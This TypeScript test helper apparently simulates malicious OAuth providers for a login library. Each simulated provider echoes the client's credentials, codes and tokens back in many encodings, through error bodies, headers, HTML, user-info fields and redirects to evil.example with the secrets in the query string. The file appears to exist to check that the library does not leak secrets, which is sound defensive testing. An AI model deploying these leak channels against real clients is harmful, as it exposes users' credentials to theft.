import type { HttpRequest, HttpResponse } from 'trivet/effects'
import type { Provider } from 'trivet/providers'
import type { Answering } from './login.ts'

/** Everything that a provider was sent, has said, and can make of it: in every writing that a log may show. */
function everything(request: HttpRequest, answer: HttpResponse, earlier: string): string {
  const basic = request.headers['authorization']?.replace(/^\w+ /, '') ?? ''
  const decoded = Buffer.from(basic, 'base64').toString()
  const { searchParams } = new URL(request.url)
  const said = [
    ...searchParams.values(),
    ...new URLSearchParams(request.body ?? '').values(),
    basic,
    decoded,
    decodeURIComponent(decoded.replaceAll('%', '%25')),
    earlier,
  ]
  const all = said.join(' | ')
  const inMarkup = all.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')
  return [all, encodeURIComponent(all), inMarkup, all.replaceAll('/', String.raw`\/`)].join('\n')
}

const json = { 'content-type': 'application/json' }

/** Tells what a provider knows, in an answer. */
type Told = (all: string, answer: HttpResponse) => HttpResponse

/** A provider that tells what it knows, in every place that an answer has; some only one endpoint has. */
const tellings: Readonly<Record<string, { readonly only?: string; readonly told: Told }>> = {
  'in an error': {
    told: (all) => ({
      status: 400,
      headers: json,
      body: JSON.stringify({ error: all, error_description: all, error_uri: all }),
    }),
  },
  'in an error with status 200': {
    told: (all) => ({
      status: 200,
      headers: json,
      body: JSON.stringify({ error: 'x', error_description: all }),
    }),
  },
  'in an error object': {
    told: (all) => ({
      status: 401,
      headers: json,
      body: JSON.stringify({ error: { code: all, status: all, message: all } }),
    }),
  },
  'in plain text': {
    told: (all) => ({ status: 403, headers: { 'content-type': 'text/plain' }, body: all }),
  },
  'in a page': {
    told: (all) => ({ status: 200, headers: { 'content-type': 'text/html' }, body: all }),
  },
  'in its content type': {
    // As it is: what comes after a semicolon, as in markup, is no part of it.
    told: (all, { body }) => ({
      status: 200,
      headers: { 'content-type': all.split('\n')[0] ?? '' },
      body,
    }),
  },
  'in where it redirects to': {
    told: (all) => ({
      status: 302,
      headers: { location: `https://evil.example/?${encodeURIComponent(all)}` },
      body: all,
    }),
  },
  'in a member that has another type': {
    only: 'token',
    told: (all, { headers, body }) => ({
      status: 200,
      headers,
      body: JSON.stringify({ ...read(body), expires_in: all }),
    }),
  },
  'in a token type': {
    only: 'token',
    told: (all, { headers, body }) => ({
      status: 200,
      headers,
      body: JSON.stringify({ ...read(body), token_type: all }),
    }),
  },
  'in the user': {
    only: 'userInfo',
    told: (all, { headers, body }) => ({
      status: 200,
      headers,
      body: JSON.stringify(filledWith(read(body), all)),
    }),
  },
}

function read(body: string): Readonly<Record<string, unknown>> {
  try {
    return JSON.parse(body) as Record<string, unknown>
  } catch {
    return {}
  }
}

/** Every text but the ids is what was told, however deep it stands; web addresses have it in their query. */
function filledWith(user: Readonly<Record<string, unknown>>, all: string): object {
  const address = `https://evil.example/?${encodeURIComponent(all)}`
  const filled = (value: unknown, name = ''): unknown => {
    // An id that changed would be another user, and an `error` none.
    if (/(^|_)(id|sub|error)$/.test(name)) return value
    if (/url|picture|href/.test(name) && typeof value === 'string') return address
    if (typeof value === 'string') return all
    if (Array.isArray(value)) return value.map((one) => filled(one))
    if (typeof value !== 'object' || value === null) return value
    return Object.fromEntries(
      Object.entries(value).map(([own, inner]) => [own, filled(inner, own)]),
    )
  }
  return { ...Object(filled(user)), more: [all] }
}

export interface Telling {
  readonly name: string
  readonly answering: Answering
  /** Whether the login came to where it is told. */
  readonly isTold: () => boolean
}

/** Every place at which a provider can tell, at every endpoint that a login asks. */
export function tellingsAt({ endpoints, idToken, additionalRequests }: Provider): Telling[] {
  const stages = [
    'token',
    ...(endpoints.userInfo === undefined ? [] : ['userInfo']),
    ...(idToken === undefined ? [] : ['keys']),
    ...(additionalRequests.length === 0 ? [] : ['additional']),
  ]
  return stages.flatMap((stage) =>
    Object.entries(tellings)
      .filter(([, { only }]) => only === undefined || only === stage)
      .map(([name, { told }]) => tellingAt(stage, name, told)),
  )
}

function tellingAt(at: string, name: string, told: Told): Telling {
  let earlier = ''
  let isTold = false
  return {
    name: `${at}, ${name}`,
    isTold: () => isTold,
    answering(stage, request, answer) {
      if (stage === at) {
        isTold = true
        return told(everything(request, answer, earlier), answer)
      }
      // A token endpoint that fails issues nothing.
      if (stage === 'token')
        earlier = Object.values(read(answer.body))
          .filter((value) => typeof value === 'string' && value.length > 20)
          .join(' ')
      return answer
    },
  }
}
